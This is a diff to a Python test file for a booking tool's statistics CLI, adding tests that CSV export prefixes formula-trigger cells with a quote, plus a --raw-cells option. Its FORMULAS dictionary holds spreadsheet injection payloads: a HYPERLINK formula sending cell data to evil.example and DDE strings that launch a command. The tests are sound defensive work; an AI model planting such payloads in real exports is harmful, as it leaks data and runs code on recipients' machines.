@@ -16,9 +16,12 @@ from custmodel import (
     BookingKind,
     CustomerKind,
     DeparturePeriod,
+    Statistics,
     StatisticsDimension,
+    StatisticsKey,
+    StatisticsRow,
 )
-from custmodel.cli._stats import csv_columns
+from custmodel.cli._stats import _write_csv, csv_columns
 from custmodel.serialization import make_converter
 from tests.cli.conftest import Cli, one_line
 
@@ -174,8 +177,19 @@ def test_csv_columns_name_each_dimension_and_the_labels() -> None:
         "--year 0",
         "--csv --json",
         "--output x.csv",
+        "--raw-cells",
     ],
-    ids=["unknown", "twice", "year and from", "reversed", "date", "year 0", "csv json", "output"],
+    ids=[
+        "unknown",
+        "twice",
+        "year and from",
+        "reversed",
+        "date",
+        "year 0",
+        "csv json",
+        "output",
+        "raw cells",
+    ],
 )
 def test_stats_bad_options_are_usage_errors(shop: Cli, options: str) -> None:
     """Bad dimensions, periods and output options exit with 2 and one error line."""
@@ -187,3 +201,57 @@ def test_stats_of_an_empty_selection_print_a_zero_total(shop: Cli) -> None:
     """A selection without customers shows the totals line with zeros."""
     rows = table_rows(shop.ok("stats --name Niemand").stdout)
     assert [["Total", "0", "0", "0", "0,00 €"]] == rows
+
+
+#: A destination, code and flag label a spreadsheet would run, one per trigger character.
+FORMULAS = {
+    "=": '=HYPERLINK("http://evil.example/?"&A1,"klick")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
+def test_stats_csv_guards_formula_cells(cli: Cli, formula: str) -> None:
+    """Destinations, codes and labels starting with a formula trigger get a leading quote."""
+    with cli.book() as book:
+        book.register(CustomerKind.PRIVATE, "Weber", code1=formula, status=[1])
+        book.rename_status_label(CustomerKind.PRIVATE, 1, formula)
+        book.update_kind_settings(CustomerKind.PRIVATE, code1_label=formula)
+        booking = Booking("VG-1", 1, BookingKind.BOOKING, date(2025, 5, 10), "AG1")
+        book.record_booking(attrs.evolve(booking, destination=formula))
+
+    text = cli.ok("stats --by destination --by code1 --by status_flag --csv").stdout
+
+    row = next(iter(csv.DictReader(io.StringIO(text))))
+    assert ["'" + formula] * 4 == [
+        row["destination"], row["code1"], row["code1_label"], row["status_flag_label"]
+    ]  # fmt: skip
+
+
+def test_stats_csv_raw_cells_writes_formulas_as_stored(cli: Cli) -> None:
+    """--raw-cells writes the group values exactly as stored."""
+    with cli.book() as book:
+        book.register(CustomerKind.PRIVATE, "Weber")
+        booking = Booking("VG-1", 1, BookingKind.BOOKING, date(2025, 5, 10), "AG1")
+        book.record_booking(attrs.evolve(booking, destination="=1+1"))
+
+    text = cli.ok("stats --by destination --csv --raw-cells").stdout
+
+    assert "=1+1" == next(iter(csv.DictReader(io.StringIO(text))))["destination"]
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+def test_stats_csv_guards_every_formula_trigger(
+    trigger: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Every OWASP trigger, tab and carriage return included, gets a quote in a group cell."""
+    key = StatisticsKey.of(StatisticsDimension.DESTINATION, f"{trigger}cmd")
+    row = StatisticsRow((key,), customers=1)
+    totals = StatisticsRow(customers=1)
+    statistics = Statistics((StatisticsDimension.DESTINATION,), rows=(row,), totals=totals)
+
+    _write_csv(statistics, "-", raw_cells=False)
+
+    assert f"group,'{trigger}cmd,1,0,0,0.00" == capsys.readouterr().out.split("\n")[1]
